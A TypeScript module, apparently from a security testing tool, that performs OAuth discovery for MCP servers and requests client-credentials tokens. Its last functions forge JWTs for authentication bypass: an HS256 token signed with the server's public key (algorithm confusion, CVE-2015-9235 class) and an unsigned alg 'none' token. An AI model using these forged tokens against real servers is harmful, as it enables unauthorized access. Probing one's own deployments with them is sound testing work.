/**
 * The OAuth side of an MCP deployment as a client discovers it (MCP authorization 2025-11-25): the 401
 * challenge, RFC 9728 protected-resource metadata, RFC 8414 / OIDC authorization-server metadata, and a
 * client-credentials token requested for this resource (RFC 8707).
 */
import { createHmac, createPublicKey, type JsonWebKey } from 'node:crypto';
import { rawRequest, type Endpoint, type RawResponse } from './http.ts';

/** The `resource_metadata` parameter of a Bearer challenge (RFC 9728 §5.1), if any. */
export function resourceMetadataOf(wwwAuthenticate: string | undefined): string | undefined {
  return wwwAuthenticate ? /resource_metadata="([^"]+)"/i.exec(wwwAuthenticate)?.[1] : undefined;
}

/** RFC 9728 §3.1: the well-known URI with the resource's path appended after it. */
export function wellKnownMetadataUrl(resource: URL, suffix = 'oauth-protected-resource'): string {
  const path = resource.pathname === '/' ? '' : resource.pathname.replace(/\/$/, '');
  return `${resource.origin}/.well-known/${suffix}${path}`;
}

export async function getJson(e: Endpoint, url: string): Promise<{ raw: RawResponse; json?: Record<string, unknown> }> {
  const raw = await rawRequest({ url: new URL(url), ca: e.ca }, { headers: { accept: 'application/json' } });
  try {
    const json = JSON.parse(raw.body) as unknown;
    return { raw, json: json && typeof json === 'object' && !Array.isArray(json) ? (json as Record<string, unknown>) : undefined };
  } catch {
    return { raw };
  }
}

export interface ResourceMetadata {
  url: string;
  status: number;
  doc?: { resource?: unknown; authorization_servers?: unknown; scopes_supported?: unknown };
}

/** The metadata the challenge points at, else the RFC 9728 well-known location. */
export async function fetchResourceMetadata(e: Endpoint, challenge: string | undefined): Promise<ResourceMetadata> {
  const url = resourceMetadataOf(challenge) ?? wellKnownMetadataUrl(e.url);
  const { raw, json } = await getJson(e, url);
  return { url, status: raw.status, doc: json };
}

/** RFC 8414 §3.1 first (path inserted after the well-known prefix), then OIDC Discovery, as MCP clients try them. */
export async function fetchAuthServerMetadata(e: Endpoint, issuer: string): Promise<{ url: string; doc: Record<string, unknown> } | { error: string }> {
  const i = new URL(issuer);
  const path = i.pathname === '/' ? '' : i.pathname.replace(/\/$/, '');
  const tried: string[] = [];
  for (const url of [
    `${i.origin}/.well-known/oauth-authorization-server${path}`,
    `${i.origin}/.well-known/openid-configuration${path}`,
    `${i.origin}${path}/.well-known/openid-configuration`,
  ]) {
    const r = await getJson(e, url).catch((err: Error) => ({ raw: { status: 0, body: err.message } as RawResponse, json: undefined }));
    if (r.raw.status === 200 && r.json) return { url, doc: r.json };
    tried.push(`${url} → ${r.raw.status || r.raw.body}`);
  }
  return { error: `no metadata: ${tried.join('; ')}` };
}

export interface TokenSet {
  access_token: string;
  id_token?: string;
}

/** client_credentials at the token endpoint with the client authenticated by client_secret_post, for `resource`. */
export async function clientCredentialsToken(
  e: Endpoint,
  o: { tokenEndpoint: string; clientId: string; clientSecret: string; resource?: string; scope?: string },
): Promise<TokenSet> {
  const form = new URLSearchParams({ grant_type: 'client_credentials', client_id: o.clientId, client_secret: o.clientSecret });
  if (o.resource) form.set('resource', o.resource);
  if (o.scope) form.set('scope', o.scope);
  const r = await rawRequest(
    { url: new URL(o.tokenEndpoint), ca: e.ca },
    {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded', accept: 'application/json' },
      body: form.toString(),
    },
  );
  const json = (() => {
    try {
      return JSON.parse(r.body) as Record<string, unknown>;
    } catch {
      return {};
    }
  })();
  if (r.status !== 200 || typeof json.access_token !== 'string') {
    throw new Error(`token endpoint answered HTTP ${r.status} ${typeof json.error === 'string' ? json.error : ''}`.trim());
  }
  return { access_token: json.access_token, id_token: typeof json.id_token === 'string' ? json.id_token : undefined };
}

/**
 * An HS256 token whose HMAC key is the server's own RSA/EC public key (PEM): a verifier that lets the
 * token's header pick the algorithm checks it with the public key as a shared secret (CVE-2015-9235 class).
 */
export function keyConfusionJwt(jwk: Record<string, unknown>, claims: Record<string, unknown>): string {
  const pem = createPublicKey({ key: jwk as JsonWebKey, format: 'jwk' }).export({ type: 'spki', format: 'pem' });
  const b64 = (o: unknown) => Buffer.from(JSON.stringify(o)).toString('base64url');
  const input = `${b64({ alg: 'HS256', typ: 'JWT', ...(typeof jwk.kid === 'string' ? { kid: jwk.kid } : {}) })}.${b64(claims)}`;
  return `${input}.${createHmac('sha256', pem).update(input).digest('base64url')}`;
}

/** A JWT's claims, read without verifying: only to tell which token an authorization server handed out. */
export function claimsOf(jwt: string): Record<string, unknown> {
  try {
    const claims = JSON.parse(Buffer.from(jwt.split('.')[1] ?? '', 'base64url').toString('utf8')) as unknown;
    return claims && typeof claims === 'object' && !Array.isArray(claims) ? (claims as Record<string, unknown>) : {};
  } catch {
    return {};
  }
}

/** The `aud` claim as a list (RFC 7519 §4.1.3 allows a string or an array). */
export const audienceOf = (claims: Record<string, unknown>): string[] =>
  (Array.isArray(claims.aud) ? claims.aud : [claims.aud]).filter((a): a is string => typeof a === 'string');

/** An unsigned JWT (alg "none") with plausible claims: a server that accepts it verifies nothing. */
export function unsignedJwt(claims: Record<string, unknown>): string {
  const b64 = (o: unknown) => Buffer.from(JSON.stringify(o)).toString('base64url');
  return `${b64({ alg: 'none', typ: 'JWT' })}.${b64(claims)}.`;
}
